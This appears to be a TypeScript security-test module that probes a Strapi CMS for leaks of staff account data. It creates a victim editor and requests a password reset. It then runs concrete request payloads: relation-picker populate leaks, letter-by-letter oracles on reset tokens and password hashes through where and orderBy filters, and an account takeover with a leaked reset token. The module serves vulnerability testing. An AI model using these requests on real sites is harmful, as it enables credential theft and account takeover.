/** What anybody gets out of the accounts of the staff: a way round every lock, because it ends in being a reader. */
import { jsonOf } from '../site/ask';
import { ARTICLE, TOPIC } from '../site/fixture';
import { gives, tells, type Probe } from '../site/probe';
import type { Row } from '../site/row';
import type { Person, Target } from '../site/target';

interface Victim {
  id: number;
  email: string;
  hash: string;
  /** As the database holds it. */
  token: string;
}
const PASSWORD = 'Victims-Horse-1';
let victims = 0;

const columns = (target: Target, email: string) =>
  target.sql('admin_users').where({ email }).first() as Promise<{
    id: number;
    password: string;
    reset_password_token: string | null;
  }>;

const tokenOf = async (target: Target, email: string): Promise<string> => {
  const { reset_password_token: before } = await columns(target, email);
  await target.ask('POST /admin/forgot-password', { body: { email } });
  for (let tries = 0; tries < 100; tries += 1) {
    const { reset_password_token: token } = await columns(target, email);
    if (token !== null && token !== before) return token;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error('no mail was asked for');
};

/** Somebody of the staff who has saved a topic, an article and a file, and has just asked for a new password. */
const makeVictim = async (target: Target): Promise<Victim> => {
  victims += 1;
  const email = `victim${victims}@site.example.org`;
  const role = (await target.sql('admin_roles').where({ code: 'strapi-editor' }).first('id')) as { id: number };
  const person = { firstname: 'Vic', lastname: 'Tim', email, roles: [role.id] };
  const { data } = jsonOf<{ data: { registrationToken: string } }>(
    await target.as('boss', 'POST /admin/users', { body: person }),
  );
  const userInfo = { firstname: 'Vic', lastname: 'Tim', password: PASSWORD };
  const body = { registrationToken: data.registrationToken, userInfo };
  const signedIn = jsonOf<{ data: { token: string } }>(await target.ask('POST /admin/register', { body }));
  const as = signedIn.data.token;
  const save = async (uid: string, what: object): Promise<string> => {
    const saved = await target.ask(`POST /content-manager/collection-types/${uid}`, { as, body: what });
    return jsonOf<{ data: { documentId: string } }>(saved).data.documentId;
  };
  await save(TOPIC, { title: `Topic of victim ${victims}` });
  await save(ARTICLE, { title: `Article of victim ${victims}` });
  const form = new FormData();
  form.append('files', new File(['minutes'], `minutes${victims}.txt`, { type: 'text/plain' }));
  await target.ask('POST /upload', { as, form });
  await target.ask('POST /upload/folders', { as, body: { name: `Folder of victim ${victims}`, parent: null } });
  const token = await tokenOf(target, email);
  const { id, password } = await columns(target, email);
  return { id, email, hash: password, token };
};

const known = new WeakMap<Target, Promise<Victim>>();
const victimOf = (target: Target): Promise<Victim> => {
  const victim = known.get(target) ?? makeVictim(target);
  known.set(target, victim);
  return victim;
};

const shows = async (target: Target, ...asked: [Person, string][]): Promise<Probe[]> => {
  const { hash, token } = await victimOf(target);
  const probes: Probe[] = [];
  for (const [person, request] of asked) probes.push(await gives(target, person, request, { traces: [hash, token] }));
  return probes;
};

/** The token or the hash, letter by letter; `address` ends before the operator. */
const oracles = async (target: Target, ...asked: [Person, 'token' | 'hash', string][]): Promise<Probe[]> => {
  const victim = await victimOf(target);
  const probes: Probe[] = [];
  for (const [person, secret, address] of asked) {
    const right = victim[secret].slice(0, 16);
    const wrong = (letter: string): string => right.slice(0, 4) + letter.repeat(12);
    const ask = (guess: string): [string] => [`${address}[$startsWith]=${encodeURIComponent(guess)}`];
    probes.push(await tells(target, person, address, ask, [right, wrong('x'), wrong('z')]));
  }
  return probes;
};

const picker = (path: string): string => `GET /content-manager/relations/${path}?populate[createdBy]=true&pageSize=100`;

const namesIn = (text: string): string => (text.match(/"name":"(town-hall|minutes)[^"]*"/g) ?? []).join(' ');

export const accounts: Row[] = [
  {
    id: 'P76',
    always: true,
    what: 'Relation picker: the account of whoever saved an entry',
    reads: true,
    attack: (target) =>
      shows(
        target,
        ['editor', picker(`${ARTICLE}/topic`)],
        ['topics', picker(`${ARTICLE}/topic`)],
        ['editor', `GET /content-manager/relations/${ARTICLE}/topic?populate[updatedBy][populate]=*&pageSize=100`],
      ),
  },
  {
    id: 'P77',
    always: true,
    what: 'The same through a component, by somebody without any right',
    reads: true,
    attack: (target) =>
      shows(
        target,
        ['nobody', picker('shared.quote/topic')],
        ['nobody', 'GET /content-manager/relations/shared.quote/topic?populate=*&pageSize=100'],
      ),
  },
  {
    id: 'P78',
    always: true,
    what: 'List of files: a secret of an account, letter by letter',
    reads: true,
    attack: (target) =>
      oracles(
        target,
        ['stranger', 'token', 'GET /api/upload/files?where[createdBy][resetPasswordToken]'],
        ['stranger', 'hash', 'GET /api/upload/files/page?where[$and][0][updatedBy][password]'],
        ['readOnly', 'token', 'GET /api/upload/files?where[createdBy][resetPasswordToken]'],
        ['readOnly', 'hash', 'GET /api/upload/files?where[createdBy][roles][users][password]'],
      ),
  },
  {
    id: 'P79',
    always: true,
    what: "The admin's own lists: the same",
    reads: true,
    attack: (target) =>
      oracles(
        target,
        ['boss', 'token', 'GET /admin/users?where[resetPasswordToken]'],
        ['boss', 'hash', 'GET /admin/roles?where[users][password]'],
        ['editor', 'hash', 'GET /upload/folders?where[createdBy][password]'],
        ['editor', 'token', 'GET /upload/folders?where[$or][0][updatedBy][resetPasswordToken]'],
      ),
  },
  {
    id: 'P80',
    always: true,
    what: 'Files in the order of a secret of who uploaded them',
    reads: true,
    async attack(target) {
      await victimOf(target);
      const probes: Probe[] = [];
      for (const [person, list] of [
        ['editor', 'GET /upload/files?'],
        ['stranger', 'GET /api/upload/files?'],
      ] as const) {
        const order = async (direction: string): Promise<string> => {
          const { status, text } = await target.as(person, `${list}orderBy[createdBy][password]=${direction}`);
          return `${status} ${namesIn(text)}`;
        };
        const [up, down] = [await order('asc'), await order('desc')];
        const what = `${person}: ${list}orderBy[createdBy][password]`;
        probes.push({ what, kind: 'ORACLE', leaked: up !== down, evidence: `asc: ${up} desc: ${down}` });
      }
      return probes;
    },
  },
  {
    id: 'P81',
    always: true,
    what: 'Read-only SQL: the token of a new password is used',
    reads: true,
    async attack(target) {
      const { email } = await victimOf(target);
      const resetPasswordToken = await tokenOf(target, email);
      const body = { resetPasswordToken, password: 'Robbers-Horse-1' };
      const { status, text } = await target.ask('POST /admin/reset-password', { body });
      const leaked = status === 200 && text.includes('"token"');
      return [
        {
          what: 'SQL: SELECT reset_password_token, POST /admin/reset-password',
          kind: 'DATA',
          leaked,
          evidence: `${status} ${text.slice(0, 120)}`,
        },
      ];
    },
  },
];
